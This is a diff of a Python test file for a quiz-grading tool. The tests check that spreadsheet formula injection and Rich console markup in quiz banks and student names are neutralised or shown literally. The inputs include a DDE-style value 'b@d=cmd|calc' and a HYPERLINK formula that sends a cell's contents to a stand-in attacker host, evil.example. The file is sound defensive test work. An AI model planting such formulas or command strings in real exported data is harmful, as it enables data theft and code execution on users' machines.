@@ -249,3 +249,45 @@ def test_gradebook_cells_never_start_a_formula(course):
     assert by_name["Ann"][3] == "ann@example.edu"
     assert by_name["Bob"][3] == "" and by_name["Bob"][2] == "b@d=cmd|calc"  # not an address: stays an id
     assert "'=HYPERLINK(" in by_name["'=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")"][0]
+
+
+# -- 6. Rich markup in data is shown as written ------------------------------------------------
+
+MARKUP = "[/] [link=https://evil.example]click[/link] [bold red]"
+
+
+def _edit_bank(course: Path, **replacements: str) -> Path:
+    path = course / "quizzes" / "lawfare-01.yaml"
+    text = path.read_text(encoding="utf-8")
+    for old, new in replacements.items():
+        assert old in text, old
+        text = text.replace(old, new)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def _answers(course: Path) -> Path:
+    path = course / "answers.yaml"
+    path.write_text("lawfare-01-q01: A\n", encoding="utf-8")
+    return path
+
+
+def test_markup_in_bank_text_does_not_crash_take_or_stats(course):
+    _edit_bank(course, **{'title: "Geoeconomics: Technology and Cybersecurity"': f'title: "{MARKUP}"',
+                          '{left: "Making"': f'{{left: "{MARKUP}Making"'})
+    db = course / "attempts.db"
+    env = _course_env(course)
+    run = quiz("take", "quizzes/lawfare-01.yaml", "--answers", _answers(course), "--db", db, "-n", "10", "--seed", "1",
+               cwd=course, env=env)
+    assert run.status == 0 and "Traceback" not in run.both, run.both[-3000:]
+    assert "[/]" in run.stdout and "[link=https://evil.example]" in run.stdout
+    run = quiz("stats", "--db", db, cwd=course, env=env)
+    assert run.status == 0 and "Traceback" not in run.both, run.both[-3000:]
+    assert "[/]" in run.stdout
+
+
+def test_markup_in_a_student_name_does_not_crash_grading(course):
+    responses = _responses_csv(course, [(MARKUP, "s1"), ("Ann", "s2")])
+    run = quiz("grade", _sheets(course), responses, cwd=course, env=_course_env(course))
+    assert run.status == 0 and "Traceback" not in run.both, run.both[-3000:]
+    assert "[link=https://evil.example]" in run.stdout and "Ann" in run.stdout
